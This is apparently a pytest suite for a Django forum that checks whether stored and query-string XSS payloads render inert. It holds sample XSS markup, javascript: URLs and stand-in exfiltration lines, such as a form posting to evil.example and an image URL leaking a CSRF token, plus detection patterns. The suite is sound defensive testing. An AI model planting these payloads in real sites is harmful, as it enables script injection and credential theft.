"""Every payload of the shared XSS lists comes out inert on every page that shows user content.

Each payload goes into a thread title, a question body, an answer body, a comment, tags and a
member's display name and bio; the thread page, the category (list) page, the tag pages and
the profile page are then parsed the way a browser parses them (html5lib implements the
WHATWG algorithm) and searched for anything that could run script. Payloads go in chunks of
50, one test per chunk, so a run stays fast and a failure still names its payload (by file
and line; a text that occurs in several lists is tested once).

Fields with a length limit get the longest prefix their form accepts; longer input is refused
by the form. Tags get what the tag field accepts (it refuses markup) and, for defence in
depth, the payload itself as a tag name stored directly, which the form would never allow.
"""

import json
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest
from django import forms
from django.urls import Resolver404, resolve

try:
    import html5lib
except ImportError:  # bleach vendors html5lib; borrow its parser when it is not installed alone
    from bleach._vendor import html5lib

from accounts import services as account_services
from accounts.models import User
from forum import rendering, services
from forum.forms import AnswerForm, TagsField
from forum.models import COMMENT_MAX_LENGTH, TAG_MAX_LENGTH, TITLE_MAX_LENGTH, Tag
from reputation.models import Privilege
from tests.factories import UserFactory, give_privilege

pytestmark = pytest.mark.django_db


def _repo_root() -> Path:
    here = Path(__file__).resolve()
    return next(parent for parent in here.parents if (parent / "manage.py").is_file())


PAYLOAD_DIR = _repo_root().parent / "shared" / "data" / "xss-payloads"
CHUNK_SIZE = 50


@dataclass(frozen=True)
class Payload:
    source: str  # "FILE.txt:LINE"
    text: str

    def __str__(self) -> str:
        shown = self.text if len(self.text) <= 160 else self.text[:160] + "…"
        return f"{self.source} {shown!r}"


def load_payloads(folder: Path) -> list[Payload]:
    """The non-blank lines of every list in *folder*, each distinct text once."""
    payloads: dict[str, Payload] = {}
    for path in sorted(folder.glob("*.txt")):
        # split("\n"), not splitlines(): payloads contain \x0b, \x1c, \u2028 and the like.
        for number, line in enumerate(path.read_text(encoding="utf-8").split("\n"), start=1):
            text = line.removesuffix("\r")
            if text.strip() and text not in payloads:
                payloads[text] = Payload(f"{path.name}:{number}", text)
    return list(payloads.values())


def _chunk_params() -> list:
    if not PAYLOAD_DIR.is_dir():
        reason = f"XSS payload folder not found at {PAYLOAD_DIR}"
        return [pytest.param(None, marks=pytest.mark.skip(reason=reason), id="no-payloads")]
    payloads = load_payloads(PAYLOAD_DIR)
    chunks = [payloads[i : i + CHUNK_SIZE] for i in range(0, len(payloads), CHUNK_SIZE)]
    return [
        pytest.param(chunk, id=f"{n:02d}-{chunk[0].source}..{chunk[-1].source}")
        for n, chunk in enumerate(chunks)
    ]


CHUNKS = _chunk_params()

# --- What "inert" means, checked on the parsed document -------------------------------------

HTML_NS = "http://www.w3.org/1999/xhtml"
ATTRIBUTE_PREFIXES = {
    "http://www.w3.org/1999/xlink": "xlink:",
    "http://www.w3.org/XML/1998/namespace": "xml:",
    "http://www.w3.org/2000/xmlns/": "xmlns:",
}
FORBIDDEN_ELEMENTS = frozenset(
    {
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "base",
        "portal",
        "foreignobject",
        "animate",
        "animatemotion",
        "animatetransform",
        "set",
        "handler",
        "listener",
    }
)
URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "lowsrc",
        "dynsrc",
        "codebase",
        "cite",
        "longdesc",
        "ping",
        "manifest",
        "srcset",
        "hx-get",
        "hx-post",
        "hx-put",
        "hx-patch",
        "hx-delete",
    }
)
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
DANGEROUS_STYLE = ("expression(", "javascript:", "vbscript:", "behavior:", "-moz-binding")
# Elements and attributes allowed inside the places that hold user content, by CSS class.
USER_CONTENT = {
    "post-body": (rendering.POST_TAGS, rendering.POST_ATTRIBUTES),
    "comment-body": (rendering.COMMENT_TAGS, rendering.COMMENT_ATTRIBUTES),
    "bio": (frozenset({"br"}), {}),
    "excerpt": (frozenset(), {}),
    "tag": (frozenset(), {}),
}


def _split_name(name: str) -> tuple[str, str]:
    """(namespace, local name) of an etree tag or attribute name."""
    if name.startswith("{"):
        namespace, _, local = name[1:].partition("}")
        return namespace, local
    return "", name


def _attributes(element: ET.Element) -> dict[str, str]:
    attributes = {}
    for name, value in element.attrib.items():
        namespace, local = _split_name(name)
        attributes[ATTRIBUTE_PREFIXES.get(namespace, "") + local.lower()] = value
    return attributes


def _normalised_url(value: str) -> str:
    # Browsers drop leading/trailing C0 controls and spaces and every tab or newline inside
    # a URL; dropping every control and space is stricter still.
    return "".join(ch for ch in value if ord(ch) > 0x20 and not 0x7F <= ord(ch) <= 0x9F).lower()


def _snippet(element: ET.Element) -> str:
    """The element's start tag and the beginning of its text, for a failure message."""
    if not isinstance(element.tag, str):
        return f"<!--{(element.text or '')[:80]}-->"
    _, local = _split_name(element.tag)
    attributes = "".join(f" {name}={value!r}" for name, value in _attributes(element).items())
    text = (element.text or "")[:80]
    return f"<{local}{attributes}>{text}"[:300]


def _is_site_path(url: str) -> bool:
    """A path of this site that maps to one of its own views (not a page-tree catch-all)."""
    if not url.startswith("/") or url.startswith("//") or "\\" in url:
        return False
    try:
        match = resolve(urlsplit(url).path)
    except Resolver404:
        return False
    return match.url_name not in {"wagtail_serve", "cached_page"}


def _is_structured_data(element: ET.Element, attributes: dict, in_head: bool) -> bool:
    if not in_head or attributes.get("type") != "application/ld+json" or "src" in attributes:
        return False
    json.loads(element.text or "")  # a payload that broke out would not parse
    return True


def _element_problems(element: ET.Element, in_head: bool, allowed_scripts: set[str]) -> list[str]:
    namespace, local = _split_name(element.tag)
    tag = local.lower()
    attributes = _attributes(element)
    problems = []
    if tag == "script" and _is_structured_data(element, attributes, in_head):
        pass  # the thread's JSON-LD: data, never run, and it must still parse as JSON
    elif tag == "script":
        src = attributes.get("src", "")
        if not (namespace in ("", HTML_NS) and in_head and src in allowed_scripts):
            problems.append("a <script> the layout does not have")
    if tag in FORBIDDEN_ELEMENTS:
        problems.append(f"a <{tag}> element")
    if tag == "style" and not in_head:
        problems.append("a <style> element in the body")
    if tag in ("link", "meta") and not in_head:
        problems.append(f"a <{tag}> in the body")
    if tag == "meta" and attributes.get("http-equiv", "").strip().lower() == "refresh":
        problems.append("a <meta> refresh")
    if tag == "form" and "action" in attributes and not _is_site_path(attributes["action"]):
        problems.append("a <form> whose action is not one of the site's own views")
    for name, value in attributes.items():
        if name.startswith(("on", "hx-on", "data-hx-on")):
            problems.append(f"an event handler attribute {name}")
        if name in ("srcdoc", "formaction"):
            problems.append(f"a {name} attribute")
        if name in URL_ATTRIBUTES or name.removeprefix("data-") in URL_ATTRIBUTES:
            url = _normalised_url(value)
            if url.startswith(DANGEROUS_SCHEMES) or (
                name == "srcset" and any(scheme in url for scheme in DANGEROUS_SCHEMES)
            ):
                problems.append(f"a script URL in {name}")
        if name.removeprefix("data-") in ("hx-vals", "hx-vars", "hx-trigger") and (
            "js:" in value or "javascript:" in value or "[" in value
        ):
            problems.append(f"htmx evaluates script in {name}")
        if name == "style" and any(bad in _normalised_url(value) for bad in DANGEROUS_STYLE):
            problems.append("script in a style attribute")
    return problems


def _user_content_problems(container: ET.Element, kind: str) -> list[tuple[str, ET.Element]]:
    allowed_tags, allowed_attributes = USER_CONTENT[kind]
    problems = []
    for element in container.iter():
        if element is container:
            continue
        if not isinstance(element.tag, str):  # a comment
            problems.append((f"an HTML comment inside .{kind}", container))
            continue
        namespace, local = _split_name(element.tag)
        if namespace not in ("", HTML_NS) or local not in allowed_tags:
            problems.append((f"a <{local}> inside .{kind}", element))
            continue
        extra = set(_attributes(element)) - set(allowed_attributes.get(local, ()))
        if extra:
            problems.append((f"attributes {sorted(extra)} inside .{kind}", element))
    return problems


def parse_html(content: bytes) -> ET.Element:
    return html5lib.parse(content, treebuilder="etree", namespaceHTMLElements=False)


def inert_problems(root: ET.Element, allowed_scripts: set[str]) -> list[tuple[str, ET.Element]]:
    """What in this parsed document could run script, each with the element it is on."""
    head = root.find("head")
    head_elements = set(head.iter()) if head is not None else set()
    problems = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        for problem in _element_problems(element, element in head_elements, allowed_scripts):
            problems.append((problem, element))
        classes = set(element.get("class", "").split())
        for kind in classes & USER_CONTENT.keys():
            problems.extend(_user_content_problems(element, kind))
    return problems


def layout_scripts(content: bytes) -> set[str]:
    """The script sources the site's own layout loads, from a page without user content."""
    root = parse_html(content)
    sources = {script.get("src", "") for script in root.iter("script")}
    assert sources, "the layout should load at least its htmx script"
    assert all(src.startswith("/static/") for src in sources), sources
    return sources


def _row_thread_pks(root: ET.Element) -> dict[ET.Element, int]:
    """Each element of a thread list, mapped to the pk of the thread whose row holds it."""
    owners = {}
    for row in root.iter("li"):
        if "thread-row" not in row.get("class", "").split():
            continue
        for link in row.iter("a"):
            parts = link.get("href", "").split("/")
            if len(parts) > 2 and parts[1] == "t" and parts[2].isdigit():
                owners.update(dict.fromkeys(row.iter(), int(parts[2])))
                break
    return owners


# --- Fixtures --------------------------------------------------------------------------------


@pytest.fixture
def allowed_scripts(client) -> set[str]:
    response = client.get("/c/")
    assert response.status_code == 200
    return layout_scripts(response.content)


@pytest.fixture
def chunk_tag(db) -> Tag:
    """One tag on every thread of a chunk, so one tag page lists them all."""
    return Tag.objects.create(name="xss-chunk", slug="xss-chunk")


def _form_tags(text: str) -> list[str]:
    try:
        return TagsField().clean(text)
    except forms.ValidationError:
        return []


@dataclass
class Seeded:
    payload: Payload
    author: User
    thread_url: str
    thread_pk: int
    own_tag_urls: list[str]


def _seed(payload: Payload, index: int, category, chunk_tag: Tag) -> Seeded:
    """A member, a thread, an answer and a comment carrying *payload* everywhere it fits."""
    text = payload.text
    # Payloads are full of links and images: their author may post them (Basic level).
    author = give_privilege(UserFactory(), Privilege.POST_LINKS)
    account_services.update_profile(
        author,
        display_name=text[: User._meta.get_field("display_name").max_length],
        bio=text[: User._meta.get_field("bio").max_length],
    )
    form_tags = _form_tags(text)
    thread = services.ask_question(
        author=author, category=category, title=text[:TITLE_MAX_LENGTH], body=text, tags=form_tags
    )
    own_tag_urls = [tag.get_absolute_url() for tag in thread.tags.all()]
    # The form never lets markup into a tag name; store one anyway, for defence in depth.
    raw_tag, _ = Tag.objects.get_or_create(
        name=text[:TAG_MAX_LENGTH], defaults={"slug": f"xss-raw-{index}"}
    )
    thread.tags.add(raw_tag, chunk_tag)
    answer = services.post_answer(thread, author=author, body=text)
    services.post_comment(answer, author=author, body=text[:COMMENT_MAX_LENGTH])
    return Seeded(payload, author, thread.get_absolute_url(), thread.pk, own_tag_urls)


def _get(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, f"{url} answered {response.status_code}"
    return response.content


# --- Tests -----------------------------------------------------------------------------------


LAYOUT = (
    "<!DOCTYPE html><html><head><title>Thread</title>"
    '<link rel="stylesheet" href="/static/css/site.css">'
    '<script src="/static/vendor/htmx.min.js" defer></script></head>'
    """<body hx-headers='{"X-CSRFToken": "token"}'>"""
    '<form method="post" action="/i18n/setlang/"><select name="language"></select></form>'
    "<main>%s</main></body></html>"
)
SITE_SCRIPTS = {"/static/vendor/htmx.min.js"}


def test_inert_check_passes_the_markup_the_site_itself_produces():
    content = LAYOUT % (
        '<div class="post-body"><p><a href="https://example.com/" rel="nofollow ugc">x</a> '
        '<img src="https://example.com/a.png" alt="a"></p>'
        '<pre><code class="language-python">print(1)</code></pre></div>'
        '<span class="comment-body"><strong>ok</strong> <code>x</code></span>'
        '<p class="bio">one<br>two</p><a class="tag" href="/tags/billing/">billing</a>'
        '<form method="post" action="/t/1/answer" hx-post="/p/2/vote" hx-target="#vote-2"></form>'
    )
    assert inert_problems(parse_html(content.encode()), SITE_SCRIPTS) == []


@pytest.mark.parametrize(
    ("markup", "problem"),
    [
        ("<script>alert(1)</script>", "<script>"),
        ('<script src="/static/vendor/htmx.min.js"></script>', "<script>"),
        ('<svg><script href="data:,alert(1)"></script></svg>', "<script>"),
        ('<img src="x" onerror="alert(1)">', "event handler"),
        ('<div hx-on:click="alert(1)">x</div>', "event handler"),
        ('<div hx-get="/t/1/x/" hx-trigger="load[alert(1)]">x</div>', "htmx"),
        ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "script URL"),
        ('<a href="VBScript:msgbox(1)">x</a>', "script URL"),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "script URL"),
        ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "script URL"),
        ('<iframe src="https://example.com/"></iframe>', "<iframe>"),
        ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "srcdoc"),
        ('<object data="https://example.com/x.swf"></object>', "<object>"),
        ('<embed src="https://example.com/x.swf">', "<embed>"),
        ('<base href="https://evil.example/">', "<base>"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "refresh"),
        ('<form action="https://evil.example/steal"><input name="p"></form>', "<form>"),
        ('<form action="/anything-else/"><input name="p"></form>', "<form>"),
        ('<button formaction="https://evil.example/">x</button>', "formaction"),
        ("<style>*{color:red}</style>", "<style>"),
        ('<p style="background:url(javascript:alert(1))">x</p>', "style"),
        ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', "<animate>"),
        ('<div class="post-body"><span>x</span></div>', ".post-body"),
        ('<div class="post-body"><a href="https://example.com/" target="_top">x</a></div>', "attr"),
        ('<div class="post-body"><!-- hidden --></div>', "comment"),
        ('<span class="comment-body"><img src="https://example.com/a.png"></span>', "<img>"),
        ('<p class="excerpt"><b>x</b></p>', ".excerpt"),
    ],
)
def test_inert_check_flags_markup_that_can_run_script(markup, problem):
    problems = inert_problems(parse_html((LAYOUT % markup).encode()), SITE_SCRIPTS)
    assert any(problem in found for found, _ in problems), problems


@pytest.mark.parametrize("chunk", CHUNKS)
def test_tag_form_refuses_markup_or_keeps_only_plain_names(chunk):
    for payload in chunk:
        for name in _form_tags(payload.text):
            assert not set(name) & set("<>\"'`&=:;/\\() "), f"{payload}: tag {name!r}"


@pytest.mark.parametrize("chunk", CHUNKS)
def test_payloads_are_inert_on_thread_list_tag_and_profile_pages(
    chunk, client, category, chunk_tag, allowed_scripts, settings
):
    settings.FORUM_THREADS_PER_PAGE = len(chunk) + 10
    seeded = [_seed(payload, n, category, chunk_tag) for n, payload in enumerate(chunk)]
    problems: list[str] = []

    def check(page: str, content: bytes, payload: Payload) -> None:
        for problem, element in inert_problems(parse_html(content), allowed_scripts):
            problems.append(f"{payload} on the {page}: {problem}: {_snippet(element)}")

    # Pages about one payload, as a visitor sees them.
    seen_tags = set()
    for item in seeded:
        check("thread page", _get(client, item.thread_url), item.payload)
        check("profile page", _get(client, item.author.get_absolute_url()), item.payload)
        for url in set(item.own_tag_urls) - seen_tags:
            seen_tags.add(url)
            check(f"tag page {url}", _get(client, url), item.payload)

    # Pages listing the whole chunk, one row per payload.
    by_pk = {item.thread_pk: item.payload for item in seeded}
    everyone = f"one of {[item.payload.source for item in seeded]}"
    for page, url in (("category page", category.url), ("tag page", chunk_tag.get_absolute_url())):
        content = _get(client, url)
        assert content.count(b'class="thread-row') == len(chunk), f"all rows on {url}"
        document = parse_html(content)
        owners = _row_thread_pks(document)
        for problem, element in inert_problems(document, allowed_scripts):
            named = by_pk.get(owners.get(element), everyone)
            problems.append(f"{named} on the {page}: {problem}: {_snippet(element)}")

    assert not problems, "\n".join(problems)


def test_payloads_in_the_query_string_are_inert_on_a_list_page(
    client, category, allowed_scripts, settings
):
    if not PAYLOAD_DIR.is_dir():
        pytest.skip(f"XSS payload folder not found at {PAYLOAD_DIR}")
    payloads = load_payloads(PAYLOAD_DIR)
    # Two rows on pages of one: the pagination links repeat the query string.
    settings.FORUM_THREADS_PER_PAGE = 1
    for title in ("First harmless thread", "Second harmless thread"):
        services.ask_question(author=UserFactory(), category=category, title=title, body="x" * 30)

    def problems_for(batch: list[Payload]) -> list[str]:
        query = [("sort", batch[0].text), ("show", batch[-1].text)]
        query += [(f"q{n}", payload.text) for n, payload in enumerate(batch)]
        content = _get(client, f"{category.url}?{urlencode(query)}")
        found = inert_problems(parse_html(content), allowed_scripts)
        return [f"{problem}: {_snippet(element)}" for problem, element in found]

    if problems_for(payloads):  # name the culprits one by one
        found = {payload: problems_for([payload]) for payload in payloads}
        pytest.fail("\n".join(f"{payload}: {found}" for payload, found in found.items() if found))


def test_cached_pages_do_not_put_the_visitors_csrf_token_into_user_content(
    client, category, settings
):
    # Shared pages (forum.caching) keep per-viewer slots, filled for each viewer: the CSRF
    # token among them. A post that imitates a slot mark must not get the token: an image
    # URL would send it to another site.
    from forum import slots

    settings.FORUM_PAGE_CACHE_SECONDS = 300
    # Members cannot type a NUL (forms refuse it; PostgreSQL would too), so even a post
    # that knows the secret cannot write a mark.
    guess = f"{slots._secret()}:csrf:"
    assert not AnswerForm({"body": "\x00" + guess + "\x00 and more text"}).is_valid()
    thread = services.ask_question(
        author=give_privilege(UserFactory(), Privilege.POST_LINKS),
        category=category,
        title="Display stays blank after the update",
        body=f"![x](https://evil.example/p.png?t={guess}) and `{guess}` csrf-{slots._secret()[:4]}",
    )
    client.get(thread.get_absolute_url())  # an anonymous visitor renders it into the cache
    client.force_login(UserFactory())
    document = parse_html(_get(client, thread.get_absolute_url()))

    tokens = {
        el.get("value") for el in document.iter("input") if el.get("name") == "csrfmiddlewaretoken"
    }
    assert tokens
    bodies = [el for el in document.iter() if "post-body" in el.get("class", "").split()]
    assert bodies
    for body in bodies:
        html = ET.tostring(body, encoding="unicode")
        assert not any(token in html for token in tokens)
        assert "\x00" not in html
